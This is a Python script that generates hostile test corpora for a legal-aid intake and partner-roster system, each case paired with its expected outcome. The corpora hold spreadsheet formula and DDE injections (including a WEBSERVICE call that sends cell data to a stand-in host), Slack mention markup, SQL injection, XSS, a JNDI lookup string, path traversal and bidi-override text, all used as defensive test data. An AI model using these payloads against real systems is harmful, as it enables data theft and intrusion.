"""Writes the hostile input corpus (hostile_intake.jsonl, hostile_airtable.jsonl) with each row's expected outcome.

Run `python tests/data/make_corpus.py` after changing it; the JSONL files are
committed, so the tests read plain data and anyone can open a case and see why
it is there. Expectations follow from the intake and roster rules as documented
(DESIGN.md, coalition/intake/fields.py, coalition/roster/quality.py), not from
running the code: a disagreement is a finding, in the code or in this file.

Routing expectations assume the corpus partners (`PARTNERS`): one Texas and one
Illinois legal-aid partner serving every case type, statewide, in English and
Spanish with an interpreter, with room for every case.
"""

from __future__ import annotations

import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any

HERE = Path(__file__).parent
FORM_COLUMNS = [
    "Timestamp", "Full name", "Preferred language", "Phone", "Email", "City", "County", "State",
    "Help needed", "Detained", "Next court date", "Date of last entry", "Household size",
    "Monthly income", "Consent to share", "Notes",
]  # fmt: skip
PARTNERS = [
    {"member_id": "recCorpusTexas0001", "name": "Corpus Texas Legal Aid", "states": ["TX"]},
    {"member_id": "recCorpusIllinois01", "name": "Corpus Illinois Legal Aid", "states": ["IL"]},
]

ORG_WORDS = ["Amaranth", "Basalt", "Cormorant", "Dandelion", "Ember", "Foxglove", "Granite", "Heron",
             "Indigo", "Juniper", "Kestrel", "Lantern", "Marigold", "Nettle", "Obsidian", "Pelican",
             "Quartz", "Rowan", "Saffron", "Thistle", "Umber", "Verbena", "Willow", "Yarrow", "Zinnia"]  # fmt: skip
FORMULAS = [
    '=IMPORTXML("http://x.example", "//a")',
    '=HYPERLINK("http://evil.example/pwn","Ver mi caso")',
    "=1+1",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=WEBSERVICE("http://x.example/?"&A1)',
    "\t=1+1",
    '=IMPORTRANGE("https://docs.google.com/spreadsheets/d/x","A1:Z")',
    "'=1+1",
]
MENTIONS = [
    "<!channel>",
    "<!here> please",
    "<!everyone>",
    "<@U0123ABCD> look",
    "<#C0123ABCD|general>",
    "@channel @here",
    "<https://evil.example|click me>",
    "*bold* _it_ ~strike~ `code` ```block```",
    "&lt;!channel&gt; &amp; <!subteam^S0123|@lawyers>",
    "<mailto:boss@evil.example|boss>",
]
SCRIPTS = [
    ("Arabic", "فاطمة الزهراء بن علي", "أحتاج مساعدة في قضية اللجوء"),
    ("Hebrew", "שרה כהן לוי", "אני צריכה עזרה בבקשת מקלט"),
    ("Chinese", "欧阳修文", "我需要申请庇护的帮助"),
    ("Japanese", "山田 花子", "亡命申請の手伝いが必要です"),
    ("Korean", "김민준", "망명 신청 도움이 필요합니다"),
    ("Vietnamese", "Lữ Quang Duệ", "tôi cần giúp đỡ về tị nạn"),
    ("Devanagari", "अनीता शर्मा", "मुझे शरण के मामले में मदद चाहिए"),
    ("Cyrillic", "Оксана Шевченко", "Мне нужна помощь с убежищем"),
    ("Greek", "Ελένη Παπαδοπούλου", "χρειάζομαι βοήθεια"),
    ("Amharic", "አበበ በቀለ", "የጥገኝነት እርዳታ እፈልጋለሁ"),
    ("Thai", "สมชาย ใจดี", "ต้องการความช่วยเหลือ"),
    ("Georgian", "ნინო ბერიძე", "მჭირდება დახმარება"),
    ("Armenian", "Անի Պետրոսյան", "օգնության կարիք ունեմ"),
    ("Tamil", "கவிதா ராஜன்", "உதவி தேவை"),
    ("Bengali", "রহিম উদ্দিন", "সাহায্য দরকার"),
    ("Khmer", "សុខ ចាន់ដារ៉ា", "ត្រូវការជំនួយ"),
    ("Burmese", "အောင် ကျော်", "အကူအညီလိုသည်"),
    ("Haitian Creole", "Jéanne-Mårie Dòrvilien", "mwen bezwen èd pou azil"),
    ("emoji", "María 🌵 López 👩🏽‍⚖️", "necesito ayuda 🙏🏽🙏🏽"),
    ("zalgo", "Z̴̡̛a̷͎̔l̶̤̈g̵̱͐o̸̯͝ Person", "h̸e̷l̵p̶ ̴m̸e̵"),
    ("right-to-left override", "\u202eNamreh Sidrah\u202c", "\u202etext reversed\u202c"),
    ("left-to-right override in Arabic", "\u202dسارة\u202c Smith", "\u2067مرحبا\u2069 world"),
    ("zero-width joiners", "Ma\u200dria\u200b Lo\u200cpez", "he\u200blp\ufeff"),
    ("combining marks", "Jose\u0301 Nun\u0303ez", "cafe\u0301 con asilo"),
    ("full-width Latin", "ＭＡＲＩＡ　ＬＯＰＥＺ", "ａｓｓｉｓｔａｎｃｅ"),
    ("Mongolian", "ᠪᠠᠲᠤ ᠪᠣᠯᠣᠳ", "ᠲᠤᠰᠠᠯᠠᠮᠵᠢ"),
    ("N'Ko", "ߡߊ߬ߡߊߘߎ߫ ߞߊ߲ߕߍ", "ߘߍ߬ߡߍ߲"),
    ("Tifinagh", "ⵜⴰⵎⴰⵣⵉⵖⵜ ⵏⵓⵔⴰ", "ⵜⴰⵡⵉⵙⵉ"),
    ("Cherokee", "ᏌᏊ ᎠᏂᏴᏫ", "ᎦᏙ ᏓᏓᏁᎳ"),
    ("mixed directions", "Ahmed (أحمد) Cohen (כהן)", "asylum مساعدة עזרה 帮助"),
]
BAD_COURT_DATES = ["31/02/2026", "2026-13-45", "tomorrow", "00/00/0000", "12/32/2026",
                   "Feb 30 2026", "13/13/13", "9999-99-99", "2026-02-29", "next tuesday"]  # fmt: skip
BAD_ENTRY_DATES = ["2019-02-30", "sometime 2019?", "99/99/99", "0/0/2019", "2019-00-10",
                   "mañana", "last summer", "June 31 2018"]  # fmt: skip
FUTURE_ENTRY_DATES = ["2099-01-01", "12/25/2098", "2101-06-30", "1/1/2200"]
CONTROL_TEXT = [
    "line one\r\nline two\rline three",
    "nul\x00byte and bell\x07 and escape\x1b[31mred",
    'quote " comma , semicolon ; tab\t"',
    "Robert'); DROP TABLE intake_records;--",
    "<script>alert(document.cookie)</script><img src=x onerror=alert(1)>",
    "{{ name }} {% for x in y %}{{ x }}{% endfor %} {# c #}",
    "${jndi:ldap://evil.example/a} %s%s%s%n",
    "\\x00\\u0000 literal escapes",
    "../../etc/passwd",
    "A" * 300 + " no spaces at all " + "B" * 300,
    "\u2028line separator\u2029paragraph separator",
    "👍" * 500,
    "NaN",
    "null",
    "undefined",
    "[]",
    "{}",
    "True",
    "-0",
    "1e309",
]


def stamp(day: int, hour: int = 10, minute: int = 0) -> str:
    """A form timestamp in February 2026 (the tests fix today at 2026-03-02)."""
    return f"2/{day}/2026 {hour}:{minute:02d}:00"


class Corpus:
    """Collects rows; gives every row its own phone and email so only planted duplicates collide."""

    def __init__(self) -> None:
        self.rows: list[dict[str, Any]] = []

    def base(self) -> dict[str, str]:
        n = len(self.rows) + 1
        area = ("713", "832", "281")[n // 100 % 3]
        return {
            "Timestamp": stamp(20 + n % 7, 8 + n % 10, n % 60),
            "Full name": f"Corpus Person {n:03d}",
            "Preferred language": "Spanish",
            "Phone": f"({area}) 555-{100 + n % 100:04d}",
            "Email": f"corpus.person{n:03d}@example.org",
            "City": "Houston",
            "County": "Harris",
            "State": "TX",
            "Help needed": "asylum",
            "Detained": "No",
            "Next court date": "",
            "Date of last entry": "",
            "Household size": "3",
            "Monthly income": "1500",
            "Consent to share": "Yes",
            "Notes": "",
        }

    def add(
        self, kind: str, changes: dict[str, str], outcome: str, code: str, why: str
    ) -> dict[str, str]:
        row = {**self.base(), **changes}
        case_id = f"HI-{len(self.rows) + 1:03d}"
        self.rows.append(
            {
                "id": case_id,
                "kind": kind,
                "why": why,
                "row": row,
                "expect": {"outcome": outcome, "code": code},
            }
        )
        return row


def routed(corpus: Corpus, kind: str, changes: dict[str, str], why: str) -> None:
    corpus.add(kind, changes, "route", "best_fit", why)


def intake_rows() -> list[dict[str, Any]]:
    c = Corpus()
    # Formula injection: text in any cell stays text; the row routes as usual.
    for formula in FORMULAS:
        for column in ("Full name", "Notes", "City"):
            routed(c, "formula injection", {column: formula}, f"formula in {column} is only text")
    for formula in FORMULAS[:5]:
        c.add("formula injection", {"Help needed": formula}, "triage", "case_type_unclear",
              "a formula is not a case type: staff read it")  # fmt: skip
    # Mention injection: never a ping, the row routes.
    for mention in MENTIONS:
        for column in ("Full name", "Notes"):
            routed(
                c, "mention injection", {column: mention}, f"mention markup in {column} is escaped"
            )
    # Every script and direction of text.
    for script, name, note in SCRIPTS:
        routed(c, f"script: {script}", {"Full name": name, "Notes": note, "City": name[:12]},
               "names and notes in any script are kept as written")  # fmt: skip
    for language in ("العربية", "中文", "Tiếng Việt", "Kreyòl", "Español"):
        routed(c, "script: language answer", {"Preferred language": language},
               "a language written in its own script; the partner has an interpreter")  # fmt: skip
    # Huge fields: cut to what a sheet cell and a partner can take, never dropped.
    routed(
        c,
        "huge field",
        {"Notes": "Long story. " * 4166},
        "a 50,000-character note is cut, not lost",
    )
    routed(c, "huge field", {"Full name": "Nombre " * 700}, "a 4,900-character name")
    routed(
        c,
        "huge field",
        {"Help needed": "asylum " + "please help " * 800},
        "a 9,600-character help text",
    )
    routed(c, "huge field", {"City": "Houston" * 300}, "a 2,100-character city")
    routed(
        c,
        "huge field",
        {"County": "Harris " * 200},
        "a county of 200 words is unreadable, the state still fits",
    )
    routed(
        c,
        "huge field",
        {"Email": "x" * 400 + "@example.org"},
        "an impossible email; the phone is enough",
    )
    routed(c, "huge field", {"Phone": "7" * 500}, "an impossible phone; the email is enough")
    routed(
        c, "huge field", {"Monthly income": "9" * 400}, "an absurd income is a warning, not a block"
    )
    routed(c, "huge field", {"Notes": "\n" * 3000 + "end"}, "3,000 line breaks")
    routed(c, "huge field", {"Notes": "😀" * 20000}, "20,000 emoji (40,000 UTF-16 units)")
    # Broken dates.
    for value in BAD_COURT_DATES:
        c.add("broken date", {"Next court date": value}, "review", "court_date_invalid",
              "a court date nobody can read must be checked by staff")  # fmt: skip
    for value in BAD_ENTRY_DATES:
        c.add("broken date", {"Date of last entry": value}, "review", "entry_date_invalid",
              "an entry date nobody can read decides the asylum deadline")  # fmt: skip
    for value in FUTURE_ENTRY_DATES:
        c.add("broken date", {"Date of last entry": value}, "review", "entry_date_future",
              "an entry in the future is a typo")  # fmt: skip
    for value in ("not a time", "32/13/2026 25:61:00", "", "0000-00-00 00:00:00", "=NOW()"):
        routed(c, "broken date", {"Timestamp": value}, "a broken timestamp does not block routing")
    routed(
        c,
        "broken date",
        {"Next court date": "2030-05-01"},
        "a court date years ahead is not urgent",
    )
    routed(c, "broken date", {"Next court date": "١٢/٠٥/٢٠٣٠"}, "Arabic-Indic digits in a date")
    # Duplicates: the same person again within the 7-day window is flagged and routed once.
    for i in range(6):
        first = c.add(
            "duplicate", {"Timestamp": stamp(10 + i)}, "route", "best_fit", "the first of a pair"
        )
        again = {**first, "Timestamp": stamp(11 + i)}
        c.add("duplicate", again, "duplicate", "duplicate", "an exact copy a day later")
    for i in range(4):
        first = c.add(
            "duplicate", {"Timestamp": stamp(3 + i)}, "route", "best_fit", "the first of a pair"
        )
        digits = "".join(ch for ch in first["Phone"] if ch.isdigit())
        other = {"Timestamp": stamp(4 + i), "Phone": f"+1 {digits[:3]}.{digits[3:6]}.{digits[6:]}",
                 "Email": "", "Full name": first["Full name"].upper()}  # fmt: skip
        c.add("duplicate", other, "duplicate", "duplicate", "the same phone written another way")
    for i in range(3):
        first = c.add(
            "duplicate", {"Timestamp": stamp(12 + i)}, "route", "best_fit", "the first of a pair"
        )
        local, _, domain = first["Email"].partition("@")
        other = {"Timestamp": stamp(13 + i), "Phone": "", "Email": f"{local}@{domain.upper()}"}
        c.add("duplicate", other, "duplicate", "duplicate", "the same email, domain in capitals")
    first = c.add(
        "duplicate", {"Timestamp": "1/2/2026 09:00:00"}, "route", "best_fit", "an old request"
    )
    c.add("duplicate", {**first, "Timestamp": "2/25/2026 09:00:00"}, "route", "best_fit",
          "the same person 54 days later is a new request")  # fmt: skip
    # Missing and invalid fields: kept, and sent to staff with what to fix.
    for _ in range(4):
        c.add(
            "missing field",
            {"Phone": "", "Email": ""},
            "review",
            "contact_missing",
            "no way to reach them",
        )
    for phone, email in (
        ("555-0199", "a@@b.org"),
        ("call me", "no email"),
        ("000", "@"),
        ("+", "x@y"),
    ):
        c.add("missing field", {"Phone": phone, "Email": email}, "review", "contact_missing",
              "neither contact can be used")  # fmt: skip
    for help_text in ("", "   ", "\t\n"):
        c.add(
            "missing field", {"Help needed": help_text}, "review", "help_missing", "no help asked"
        )
    for state in ("", "Texass", "ZZ", "Narnia", "99", "T X"):
        c.add("missing field", {"State": state}, "review", "state_invalid", "no US state")
    for household in ("many", "0", "31", "a lot of people"):
        c.add("missing field", {"Household size": household}, "review", "household_invalid",
              "a household size nobody can read")  # fmt: skip
    for blank in (
        {key: "" for key in FORM_COLUMNS},
        {**{key: "" for key in FORM_COLUMNS}, "Timestamp": stamp(21)},
    ):
        c.add("missing field", blank, "blank", "", "an empty row is not an intake")
    c.add("missing field", {key: "\u200b" for key in FORM_COLUMNS}, "review", "contact_missing",
          "a row of zero-width spaces looks empty but is not: staff must see it")  # fmt: skip
    c.add("missing field", {key: ("" if key != "Notes" else "only a note") for key in FORM_COLUMNS},
          "review", "contact_missing", "a note alone is not a request")  # fmt: skip
    # Consent in many forms: partners get contact details only with a clear yes.
    for consent in ("No", "", "maybe", "No, thanks", "non", "لا", "n/a?"):
        c.add("consent", {"Consent to share": consent}, "triage", "no_consent", "no clear consent")
    for consent in ("Sí", "نعم", "x", "YES!!!", "yes i consent", "✓", "oui", "Wi"):
        routed(c, "consent", {"Consent to share": consent}, "consent in the person's own words")
    # A request nobody can classify goes to staff.
    for help_text in ("I need help", "help", "???", "ayuda por favor", "<script>alert(1)</script>",
                      "{{ name }}", "<!channel>", "0", "call me back", "📞"):  # fmt: skip
        c.add("unclear request", {"Help needed": help_text}, "triage", "case_type_unclear",
              "the answers name no case type")  # fmt: skip
    # Control characters, escapes and injection attempts against every layer.
    for text in CONTROL_TEXT:
        routed(
            c, "control and injection text", {"Notes": text, "City": text[:40]}, "stays inert text"
        )
    # Odd but usable contact details.
    routed(
        c, "odd contact", {"Phone": "٣٤٦٥٥٥٠١٩٨", "Email": ""}, "Arabic-Indic digits are a phone"
    )
    routed(c, "odd contact", {"Phone": "1-800-FLOWERS"}, "a vanity number")
    routed(
        c, "odd contact", {"Phone": "555-0199"}, "a phone without area code; the email is enough"
    )
    routed(c, "odd contact", {"Email": "a@@b.org"}, "a broken email; the phone is enough")
    routed(c, "odd contact", {"Phone": " (346)555-0177 ext. 2 ", "Email": ""}, "an extension")
    routed(c, "odd contact", {"Email": " MixedCase.Person@Example.ORG "}, "spaces and capitals")
    routed(c, "odd contact", {"State": "texas "}, "a state in words, lower case")
    c.add("odd contact", {"State": "Tex."}, "review", "state_invalid",
          "an old abbreviation that is not a postal code: staff check it")  # fmt: skip
    routed(c, "odd contact", {"County": "Condado de Harris"}, "a county in Spanish")
    routed(c, "odd contact", {"Monthly income": "$1,200.50 al mes"}, "an income with words")
    # No partner serves the place: waitlisted with a reason, never dropped.
    for state in ("WY", "AK", "HI", "Vermont", "PR"):
        c.add(
            "no partner",
            {"State": state},
            "waitlist",
            "outside_area",
            "no partner serves that state",
        )
    routed(c, "no partner", {"State": "IL", "County": "Cook"}, "the Illinois partner takes it")
    routed(
        c,
        "urgent",
        {"Detained": "Yes", "Help needed": "my husband is detained"},
        "detained: attorney partner",
    )
    return c.rows


# ---------------------------------------------------------------- Airtable records
def airtable_records() -> list[dict[str, Any]]:
    """Members and Contacts records, each with the data-quality finding codes it must get."""
    out: list[dict[str, Any]] = []

    def member(n: int, kind: str, fields: dict[str, Any], expect: list[str], why: str) -> str:
        record_id = f"recHostileMem{n:04d}"
        base = {"Name": f"{ORG_WORDS[n % 25]} {('Harbor', 'Prairie', 'Summit')[n // 25]}", "Type": "Legal aid", "State": "TX",
                "Membership status": "Active", "Last verified": "2026-02-01"}  # fmt: skip
        out.append({"id": f"HA-{len(out) + 1:03d}", "table": "Members", "kind": kind, "why": why,
                    "record": {"id": record_id, "createdTime": "2026-01-01T00:00:00.000Z",
                               "fields": {**base, **fields}},
                    "expect": {"codes": sorted(set(expect))}})  # fmt: skip
        return record_id

    def contact(n: int, kind: str, fields: dict[str, Any], expect: list[str], why: str) -> None:
        out.append({"id": f"HA-{len(out) + 1:03d}", "table": "Contacts", "kind": kind, "why": why,
                    "record": {"id": f"recHostileCon{n:04d}", "createdTime": "2026-01-01T00:00:00.000Z",
                               "fields": fields},
                    "expect": {"codes": sorted(set(expect))}})  # fmt: skip

    # Every member without a primary contact gets that finding; members 1-5 have one.
    no_primary = ["missing_primary_contact"]
    anchors = [
        member(i, "clean", {}, [] if i <= 5 else no_primary, "a clean member") for i in range(1, 8)
    ]
    hostile_names = [
        '=HYPERLINK("http://evil.example","Click")', "<!channel> Legal Aid", "Org\u202eevil\u202c",
        "ОРГАНИЗАЦИЯ 移民 منظمة", "Z̴a̷l̶g̵o̸ Legal", "x" * 10_000, "🌵" * 200, "Org\x00\x07\x1b",
        "{{ config }} Legal", "Robert'); DROP TABLE members;--",
    ]  # fmt: skip
    for i, name in enumerate(hostile_names, start=20):
        member(
            i,
            "hostile name",
            {"Name": name},
            no_primary,
            "an organization name that attacks a layer",
        )
    member(40, "missing field", {"Name": ""}, ["missing_name", *no_primary], "no name")
    member(
        41,
        "missing field",
        {"Name": "   \u200b "},
        ["missing_name", *no_primary],
        "a blank-looking name",
    )
    for i, state in enumerate(("Texass", "ZZ", "99", ["TX", "CA"]), start=42):
        member(i, "bad value", {"State": state}, ["unknown_state", *no_primary], "no US state")
    for i, capacity in enumerate(("lots", "-5", "1e999", {"n": 3}), start=46):
        member(
            i,
            "bad value",
            {"Weekly capacity": capacity},
            ["invalid_value", *no_primary],
            "not a capacity",
        )
    for i, day in enumerate(("2026-02-30", "someday", "13/45/2026"), start=50):
        member(
            i,
            "broken date",
            {"Dues paid through": day},
            ["invalid_value", *no_primary],
            "not a date",
        )
    member(53, "broken date", {"Last verified": "yesterday-ish"}, ["invalid_value", "not_verified", *no_primary],
           "an unreadable verification date means never verified")  # fmt: skip
    member(54, "bad value", {"Services": ["asylum", "<!here>", "=1+1"]}, ["unknown_service", *no_primary],
           "services outside the canonical list")  # fmt: skip
    member(55, "bad value", {"Languages": ["Spanish", "Klingon"]}, ["unknown_language", *no_primary],
           "a language outside the canonical list")  # fmt: skip
    member(
        56,
        "bad value",
        {"Accreditation": "supreme"},
        ["invalid_value", *no_primary],
        "unknown accreditation",
    )
    member(
        57,
        "duplicate",
        {"Name": "Casa Quillon Legal Services"},
        ["duplicate_member", *no_primary],
        "a pair",
    )
    member(58, "duplicate", {"Name": "casa quillon legal services."}, ["duplicate_member", *no_primary],
           "the same organization in lower case")  # fmt: skip
    member(59, "wrong type", {"Name": 12345, "Accepting referrals": "yes please"}, no_primary,
           "a number where text is expected")  # fmt: skip
    # Contacts: primary contacts of members 1-5, then hostile ones linked to member 6.
    for i in range(1, 6):
        contact(i, "clean", {"Name": f"Hostile Contact {i}", "Email": f"contact{i}@example.org",
                             "Phone": f"(713) 555-01{i:02d}", "Organization": [anchors[i - 1]],
                             "Role": "Primary contact", "Primary contact": True}, [], "a clean contact")  # fmt: skip
    six = anchors[5]
    contact(10, "bad value", {"Name": "Bad Email", "Email": "not an email", "Organization": [six]},
            ["invalid_email"], "an email nobody can use")  # fmt: skip
    contact(11, "bad value", {"Name": "Bad Phone", "Phone": "call the office", "Organization": [six]},
            ["invalid_phone"], "a phone nobody can dial")  # fmt: skip
    contact(12, "missing field", {"Email": "noname@example.org", "Organization": [six]}, ["missing_name"],
            "a contact without a name")  # fmt: skip
    contact(13, "missing field", {"Name": "No Org Person", "Email": "noorg@example.org"},
            ["missing_organization"], "a contact linked to nobody")  # fmt: skip
    contact(14, "bad link", {"Name": "Ghost Link", "Email": "ghost@example.org",
                             "Organization": ["recDoesNotExist00"]},
            ["linked_record_missing"], "a link to a member that does not exist")  # fmt: skip
    contact(15, "duplicate", {"Name": "Dup Email One", "Email": "same@example.org", "Organization": [six]},
            ["duplicate_contact"], "the same email twice")  # fmt: skip
    contact(16, "duplicate", {"Name": "Dup Email Two", "Email": "SAME@example.org", "Organization": [anchors[6]]},
            ["duplicate_contact"], "the same email, other case, other organization")  # fmt: skip
    contact(17, "hostile name", {"Name": "<!channel> =1+1 \u202eevil", "Email": "hostile17@example.org",
                                 "Organization": [six]}, [], "markup in a name stays text")  # fmt: skip
    contact(18, "hostile name", {"Name": "x" * 20_000, "Email": "huge18@example.org", "Organization": [six]},
            [], "a 20,000-character name is cut")  # fmt: skip
    contact(19, "wrong type", {"Name": ["a", "list"], "Email": 42, "Organization": "recNotAList0000"},
            ["invalid_email", "missing_organization"], "types nobody expects")  # fmt: skip
    # Members 6 and 7 hold the contacts with problems: their records say so.
    for row in out:
        if row["record"]["id"] in anchors[5:7]:
            row["expect"]["codes"] = sorted({*row["expect"]["codes"], "contact_issues"})
    return out


def write() -> None:
    intake = intake_rows()
    airtable = airtable_records()
    for name, rows in (("hostile_intake.jsonl", intake), ("hostile_airtable.jsonl", airtable)):
        lines = (json.dumps(row, ensure_ascii=False) for row in rows)
        (HERE / name).write_text("\n".join(lines) + "\n", encoding="utf-8")
    (HERE / "hostile_partners.json").write_text(
        json.dumps(PARTNERS, indent=1) + "\n", encoding="utf-8"
    )
    print(f"{len(intake)} intake rows, {len(airtable)} Airtable records")


def iter_kinds(rows: list[dict[str, Any]]) -> Iterator[str]:
    yield from sorted({row["kind"] for row in rows})


if __name__ == "__main__":
    write()
